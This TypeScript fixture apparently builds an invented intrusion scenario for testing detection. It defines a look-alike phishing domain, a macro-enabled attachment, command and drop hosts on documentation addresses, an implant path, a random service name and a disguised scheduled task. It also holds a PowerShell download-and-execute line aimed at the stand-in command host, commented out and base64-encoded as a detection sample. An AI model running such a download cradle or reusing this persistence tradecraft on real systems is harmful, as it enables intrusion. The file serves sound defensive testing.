import type { Account } from "../../../src/redteam/records/windows/host.ts";
import { accounts, employee } from "../company.ts";
import type { Site } from "../site.ts";

/** Who and what takes part in the intrusion. All of it invented, all addresses from the documentation ranges. */
export const victim = employee("m.holt");
export const secondVictim = employee("t.okafor");
export const stolen: Account = accounts.lindqvistAdmin;

export const mailFrom = {
  name: "Brightline Freight Accounts",
  claimed: "brightline-freight.example",
  lookAlike: "brightline-frieght.example",
  address: "203.0.113.77",
} as const;
export const attachmentName = "Statement_March_2026.docm";

export const commandSite: Site = {
  domain: "cdn.officedeliver-sync.example",
  address: "203.0.113.145",
  category: "uncategorised",
  isEncrypted: true,
};
export const dropSite: Site = {
  domain: "storage.dropvault.example",
  address: "203.0.113.201",
  category: "file-sharing",
  isEncrypted: true,
};
export const foreignBucket = { name: "ab-mirror-2026", owner: "444455556666" } as const;

export const implantPath = `C:\\Users\\${victim.name}\\AppData\\Roaming\\Microsoft\\Sync\\winsyncsvc.exe`;
export const implantBytes = 1_384_960;
export const serviceBinary = "kxmrwzqv.exe";
export const serviceName = "kxmrwzqv";
export const stageFolder = "C:\\ProgramData\\stage";
export const taskName = "\\Microsoft\\Windows\\Sync\\CoreUpdate";

/**
 * The text inside the encoded command and the script block: a comment. It shows what detection looks for, and does nothing when run.
 */
export const harmlessScript = `# (New-Object Net.WebClient).DownloadString('https://${commandSite.domain}/u') | IEX -- a comment, recorded for a demonstration`;
export const encodedCommand = Buffer.from(harmlessScript, "utf16le").toString("base64");
